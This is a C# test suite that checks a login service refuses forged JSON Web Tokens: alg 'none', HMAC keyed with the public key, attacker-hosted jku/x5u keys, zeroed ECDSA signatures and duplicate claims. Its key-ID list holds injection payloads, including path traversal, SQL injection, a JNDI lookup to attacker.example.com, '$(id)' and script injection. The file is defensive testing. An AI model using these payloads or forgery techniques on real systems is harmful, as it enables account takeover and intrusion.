using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.Json;
using OctoLogin.Tests.Support;

namespace OctoLogin.Tests.Threats;

/// <summary>Section A of docs/threats.md: what a token's form and header try.</summary>
public sealed class JoseAttackTests(BesiegedServer besieged) : IClassFixture<BesiegedServer>
{
    private const string Plain = """{"typ":"JWT","alg":"RS256","kid":"test-key-1"}""";

    private readonly ServerFixture server = besieged.Server;

    [Theory]
    [InlineData("none")]
    [InlineData("None")]
    [InlineData("NONE")]
    [InlineData("nOnE")]
    public async Task A1_alg_none_in_any_casing(string alg)
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        var header = $$"""{"typ":"JWT","alg":"{{alg}}","kid":"test-key-1"}""";
        var input = $"{Attacks.Part(header)}.{Attacks.Part(server.GoodPayload(audience))}";
        (await server.ShouldRefuseAsync(audience, $"{input}.", "without a signature")).ShouldContain("its 'alg' is not one of");
        (await server.ShouldRefuseAsync(audience, server.GitHub.SignText(server.GoodPayload(audience), header), "with a good signature")).ShouldContain("its 'alg' is not one of");
        await server.ShouldRefuseAsync(audience, input, "without the last part");
    }

    [Theory]
    [InlineData("HS256")]
    [InlineData("HS384")]
    [InlineData("HS512")]
    public async Task A2_the_public_key_as_the_secret_of_an_HMAC(string alg)
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        var key = server.GitHub.Key;
        var jwk = TestIssuer.JwkOf(key, server.GitHub.KeyId);
        var pem = key.ExportSubjectPublicKeyInfoPem();
        var secrets = new Dictionary<string, byte[]>
        {
            ["PEM"] = Encoding.ASCII.GetBytes(pem),
            ["PEM with a line's end"] = Encoding.ASCII.GetBytes(pem + "\n"),
            ["PKCS#1 PEM"] = Encoding.ASCII.GetBytes(key.ExportRSAPublicKeyPem()),
            ["DER"] = key.ExportSubjectPublicKeyInfo(),
            ["PKCS#1 DER"] = key.ExportRSAPublicKey(),
            ["the JWK's text"] = JsonSerializer.SerializeToUtf8Bytes(jwk),
            ["the bytes of n"] = key.ExportParameters(false).Modulus!,
            ["the text of n"] = Encoding.ASCII.GetBytes((string)jwk["n"]!),
            ["nothing"] = [],
        };
        foreach (var (what, secret) in secrets)
        {
            var token = Attacks.Jws($$"""{"typ":"JWT","alg":"{{alg}}","kid":"test-key-1"}""", server.GoodPayload(audience),
                input => alg == "HS256" ? HMACSHA256.HashData(secret, input) : alg == "HS384" ? HMACSHA384.HashData(secret, input) : HMACSHA512.HashData(secret, input));
            (await server.ShouldRefuseAsync(audience, token, what)).ShouldContain("its 'alg' is not one of");
        }
    }

    [Fact]
    public async Task A3_a_key_or_the_address_of_one_in_the_header()
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        await using var attacker = await server.AddIssuerAsync("https://attacker.example.com");
        var jwk = JsonSerializer.Serialize(TestIssuer.JwkOf(attacker.Key, "test-key-1"));
        using var certificate = new CertificateRequest("CN=attacker", attacker.Key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1).CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddDays(1));
        string[] keys =
        [
            $"\"jwk\":{jwk}", $"\"jku\":\"{attacker.Issuer}/.well-known/jwks\"", $"\"x5u\":\"{attacker.Issuer}/chain.pem\"",
            $"\"x5c\":[\"{Convert.ToBase64String(certificate.RawData)}\"]", $"\"jwk\":{jwk},\"jku\":\"{attacker.Issuer}/.well-known/jwks\",\"x5t\":\"x\"",
        ];
        foreach (var key in keys)
        {
            foreach (var kid in (string[])["\"kid\":\"test-key-1\",", "\"kid\":\"attackers\",", ""])
            {
                var header = $$"""{"alg":"RS256",{{kid}}{{key}}}""";
                await server.ShouldRefuseAsync(audience, Attacks.Jws(header, server.GoodPayload(audience), input => attacker.Key.SignData(input, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)), header);
            }
            // Ignored, and not refused: where the issuer's own key signed, they say nothing.
            var genuine = await server.ExchangeAsync(audience, server.GitHub.SignText(server.GoodPayload(audience), $$"""{"alg":"RS256","kid":"test-key-1",{{key}}}"""));
            genuine.Status.ShouldBe(200, genuine.Text);
        }
        (attacker.DiscoveryRequests, attacker.JwksRequests).ShouldBe((0, 0));
    }

    [Fact]
    public async Task A4_hostile_key_ids_neither_lead_anywhere_nor_make_a_storm_of_fetches()
    {
        await using var fixture = new ServerFixture();
        await fixture.InitializeAsync();
        var (_, audience) = await fixture.AddTrustedAccountAsync();
        (await fixture.ExchangeAsync(audience, fixture.GitHubToken(audience))).Status.ShouldBe(200);
        var before = fixture.GitHub.JwksRequests;
        string[] texts =
        [
            "../../../../etc/passwd", "/dev/null", "..\\..\\windows\\win.ini", "file:///etc/passwd", "http://attacker.example.com/key", "' or '1'='1", "'; drop table users; --", "x\r\nSet-Cookie: a=b",
            "\u001b[2J", "\0", "${jndi:ldap://attacker.example.com}", "{{7*7}}", "$(id)", "`id`", "<img src=x onerror=alert(1)>", "test-key-1\0", "test-key-1 ", " test-key-1", "TEST-KEY-1", "test\u2010key\u20101", "", "*", "?", "%00", "\u202e1-yek-tset",
            new string('k', 10_000),
        ];
        var kids = texts.Select(text => JsonSerializer.Serialize(text)).Concat(["null", "1", "1e999", "true", "[]", "[\"test-key-1\"]", "{}", "{\"kid\":\"test-key-1\"}", "\"\\ud800\""])
            .Concat(Enumerable.Range(0, 15).Select(i => $"\"unknown-{i}\"")).ToList();
        kids.Count.ShouldBe(50);
        foreach (var kid in kids)
        {
            var reason = await fixture.ShouldRefuseAsync(audience, fixture.GitHub.SignText(fixture.GoodPayload(audience), $$"""{"alg":"RS256","kid":{{kid}}}"""), kid);
            reason.ShouldNotContain('\r');
            reason.ShouldNotContain('\u001b');
        }
        (fixture.GitHub.JwksRequests - before).ShouldBeLessThanOrEqualTo(1);
        (await fixture.ExchangeAsync(audience, fixture.GitHubToken(audience))).Status.ShouldBe(200);
    }

    [Theory]
    [InlineData("sub")]
    [InlineData("aud")]
    [InlineData("iss")]
    [InlineData("exp")]
    public async Task A7_a_claim_that_is_there_twice(string claim)
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        var payload = server.GoodPayload(audience);
        var again = JsonDocument.Parse(payload).RootElement.GetProperty(claim).GetRawText();
        string[] payloads =
        [
            $"{payload[..^1]},\"{claim}\":\"other\"}}", $"{{\"{claim}\":\"other\",{payload[1..]}", $"{payload[..^1]},\"{claim}\":{again}}}", $"{payload[..^1]},\"\\u{(int)claim[0]:x4}{claim[1..]}\":{again}}}",
            $"{payload[..^1]},\"nested\":{{\"{claim}\":1,\"{claim}\":2}}}}",
        ];
        foreach (var twice in payloads)
        {
            (await server.ShouldRefuseAsync(audience, server.GitHub.SignText(twice), twice)).ShouldContain("duplicate names");
        }
    }

    [Theory]
    [InlineData("""{"alg":"RS256","alg":"none","kid":"test-key-1"}""")]
    [InlineData("""{"alg":"none","alg":"RS256","kid":"test-key-1"}""")]
    [InlineData("""{"alg":"RS256","\u0061lg":"RS256","kid":"test-key-1"}""")]
    [InlineData("""{"alg":"RS256","kid":"test-key-1","kid":"test-key-1"}""")]
    [InlineData("""{"alg":"RS256","kid":"test-key-1","typ":"JWT","typ":"JWT"}""")]
    public async Task A7_a_header_that_says_something_twice(string header)
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        (await server.ShouldRefuseAsync(audience, server.GitHub.SignText(server.GoodPayload(audience), header), header)).ShouldContain("duplicate names");
    }

    [Theory]
    [InlineData("\"crit\":[\"exp\"]")]
    [InlineData("\"crit\":[]")]
    [InlineData("\"crit\":[\"b64\"],\"b64\":false")]
    [InlineData("\"crit\":\"x\"")]
    [InlineData("\"b64\":false")]
    [InlineData("\"b64\":true")]
    [InlineData("\"zip\":\"DEF\"")]
    [InlineData("\"zip\":null")]
    public async Task A8_an_extension_that_must_be_understood(string member)
    {
        var (_, audience) = await server.AddTrustedAccountAsync();
        var header = $"{Plain[..^1]},{member}}}";
        (await server.ShouldRefuseAsync(audience, server.GitHub.SignText(server.GoodPayload(audience), header), header)).ShouldContain("which is not supported");
    }

    [Fact]
    public async Task A10_ECDSA_signatures_of_zeros_in_DER_or_by_another_curve()
    {
        await using var fixture = new ServerFixture();
        await fixture.InitializeAsync();
        var (_, audience) = await fixture.AddTrustedAccountAsync();
        using var p256 = ECDsa.Create(ECCurve.NamedCurves.nistP256);
        using var p384 = ECDsa.Create(ECCurve.NamedCurves.nistP384);
        fixture.GitHub.Jwks = () => TestIssuer.JwksOf(EcKeys.JwkOf(p256, "p256"), EcKeys.JwkOf(p384, "p384"));
        var order = Convert.FromHexString("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551");
        var attacks = new Dictionary<string, Func<byte[], byte[]>>
        {
            ["r = s = 0"] = _ => new byte[64],
            ["r = 0"] = input => [.. new byte[32], .. p256.SignData(input, HashAlgorithmName.SHA256)[32..]],
            ["s = 0"] = input => [.. p256.SignData(input, HashAlgorithmName.SHA256)[..32], .. new byte[32]],
            ["r = s = n"] = _ => [.. order, .. order],
            ["r = s = 1"] = _ => [.. new byte[31], 1, .. new byte[31], 1],
            ["DER"] = input => p256.SignData(input, HashAlgorithmName.SHA256, DSASignatureFormat.Rfc3279DerSequence),
            ["empty"] = _ => [],
            ["cut off"] = input => p256.SignData(input, HashAlgorithmName.SHA256)[..63],
            ["a zero more"] = input => [.. p256.SignData(input, HashAlgorithmName.SHA256), 0],
            ["by P-384"] = input => p384.SignData(input, HashAlgorithmName.SHA256),
        };
        foreach (var (what, sign) in attacks)
        {
            await fixture.ShouldRefuseAsync(audience, Attacks.Jws("""{"alg":"ES256","kid":"p256"}""", fixture.GoodPayload(audience), sign), what);
            await fixture.ShouldRefuseAsync(audience, Attacks.Jws("""{"alg":"ES256","kid":"p384"}""", fixture.GoodPayload(audience), sign), $"{what}, with the key of the other curve");
        }
        var good = await fixture.ExchangeAsync(audience, Attacks.Jws("""{"alg":"ES256","kid":"p256"}""", fixture.GoodPayload(audience), input => p256.SignData(input, HashAlgorithmName.SHA256)));
        good.Status.ShouldBe(200, good.Text);
    }
}
